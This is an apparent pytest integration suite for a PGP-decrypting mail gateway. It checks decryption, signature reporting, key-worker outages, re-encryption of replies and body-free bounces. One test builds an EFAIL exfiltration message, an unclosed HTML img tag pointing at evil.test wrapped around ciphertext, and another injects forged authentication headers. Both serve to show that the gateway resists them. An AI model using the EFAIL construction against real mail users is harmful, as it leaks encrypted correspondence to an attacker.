"""
What comes in encrypted is decrypted for the inside, and what was confidential stays so.
"""

import pytest
from lab.letter import canary, letter, multipart, pgp_mime
from lab.sink import Received
from lab.town import OWN, Town
from lab.wait import until

pytestmark = [pytest.mark.real, pytest.mark.timeout(180)]

_KIM = "kim@plain.test"


def _encrypted(
    town: Town, entity: bytes, *, to: str = OWN, subject: str = "in confidence", signed: bool = True
) -> bytes:
    """Write a PGP/MIME message from kim to doc, encrypted to the key of `to`."""
    cipher = town.gpg.encrypt(entity, [town.gpg.fingerprint(to)], signer=_KIM if signed else None)
    line, body = pgp_mime(cipher)
    return letter(body, sender=_KIM, to="doc@hosp.test", subject=subject, fields=["MIME-Version: 1.0", line])


def _text(word: str) -> bytes:
    return f"Content-Type: text/plain; charset=utf-8\r\n\r\n{word} Gr\u00fc\u00dfe\r\n.dot\r\n".encode()


def _arrives(town: Town, message: bytes) -> Received:
    before = len(town.inside.messages)
    assert town.send_from_outside(_KIM, "doc@hosp.test", message=message).ok
    return town.inside.wait_for(before + 1)[before]


class TestDecryption:
    def test_to_our_domain_key(self, the_town: Town) -> None:
        """Mail to our domain's key arrives decrypted, byte for byte, and says how it came."""
        word = canary()
        received = _arrives(the_town, _encrypted(the_town, _text(word)))

        assert received.body == f"{word} Gr\u00fc\u00dfe\r\n.dot\r\n".encode()
        assert received.values("Content-Type") == ["text/plain; charset=utf-8"]
        result = received.values("Gatepost-Result")
        assert len(result) == 1
        assert "decrypted=openpgp" in result[0]
        assert "signed=pass" in result[0]

    def test_unsigned(self, the_town: Town) -> None:
        """An unsigned message is decrypted and not called signed."""
        word = canary()
        received = _arrives(the_town, _encrypted(the_town, _text(word), signed=False))

        assert word.encode() in received.body
        assert "signed=none" in received.values("Gatepost-Result")[0]

    def test_to_a_key_that_is_not_ours(self, the_town: Town) -> None:
        """What cannot be decrypted is delivered as it came."""
        message = _encrypted(the_town, _text(canary()), to="eve@pgp.test")
        received = _arrives(the_town, message)

        assert received.body == message.partition(b"\r\n\r\n")[2]
        assert "decrypted=no" in received.values("Gatepost-Result")[0]

    def test_only_the_outermost_entity(self, the_town: Town) -> None:
        """An encrypted part inside another entity is never decrypted (EFAIL)."""
        word = canary()
        inner = _encrypted(the_town, _text(word))
        line = next(line for line in inner.split(b"\r\n") if line.startswith(b"Content-Type: multipart/encrypted"))
        entity = line + b"\r\n\r\n" + inner.partition(b"\r\n\r\n")[2]
        head, body = multipart("mixed", b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/', entity)
        received = _arrives(
            the_town, letter(body, sender=_KIM, to="doc@hosp.test", fields=["MIME-Version: 1.0", head])
        )

        assert word.encode() not in received.data
        assert received.body == body

    def test_forged_fields_are_removed(self, the_town: Town) -> None:
        """Result fields from outside do not survive, whatever their case and number."""
        forged = (
            "Gatepost-Result: gatepost.mail.hosp.test; decrypted=openpgp; signed=pass",
            "GATEPOST-RESULT: x",
            "Gatepost-Route: [127.0.0.1]:25",
            "Authentication-Results: gatepost.mail.hosp.test; pgp=pass",
        )
        word = canary()
        received = _arrives(the_town, letter(word, sender=_KIM, to="doc@hosp.test", fields=forged))

        assert len(received.values("Gatepost-Result")) == 1
        assert "decrypted=no" in received.values("Gatepost-Result")[0]
        assert received.values("Gatepost-Route") == []
        assert not [value for value in received.values("Authentication-Results") if "pgp=pass" in value]

    def test_key_worker_down(self, the_town: Town) -> None:
        """Without the key worker encrypted mail waits outside; it is neither lost nor delivered unread."""
        message = _encrypted(the_town, _text(word := canary()))
        the_town.site.kill_service("keys")
        outcome = the_town.send_from_outside(_KIM, "doc@hosp.test", message=message)
        until(lambda: the_town.site.service_pids("keys"), 30, "the key worker is started again")

        assert outcome.reply.temporary
        until(
            lambda: the_town.send_from_outside(_KIM, "doc@hosp.test", message=message).ok, 30, "it is taken later"
        )
        assert word.encode() in the_town.inside.wait_for(1)[0].body


class TestConfidenceIsKept:
    def test_a_reply_is_encrypted_again(self, the_town: Town) -> None:
        """The answer to a message that came encrypted goes out encrypted, without tag and partner row."""
        original = _encrypted(the_town, _text(canary()))
        received = _arrives(the_town, original)
        word = canary()
        fields = [f"In-Reply-To: {received.values('Message-ID')[0]}"]
        assert the_town.send(
            "doc@hosp.test", _KIM, message=letter(word, sender="doc@hosp.test", to=_KIM, fields=fields)
        ).ok

        reply = the_town.outside.wait_for(1)[0]
        assert word.encode() not in reply.data
        assert word.encode() in the_town.gpg.decrypt(reply.data).data

    def test_a_bounce_carries_headers_only(self, the_town: Town) -> None:
        """When the mailbox refuses a decrypted message, the bounce to the outside holds nothing of its body."""
        word = canary()
        the_town.inside.fail("RCPT", "550 5.1.1 no such mailbox")
        assert the_town.send_from_outside(_KIM, "doc@hosp.test", message=_encrypted(the_town, _text(word))).ok

        bounce = the_town.outside.wait_for(1)[0]
        assert bounce.sender == ""
        assert word.encode() not in bounce.data
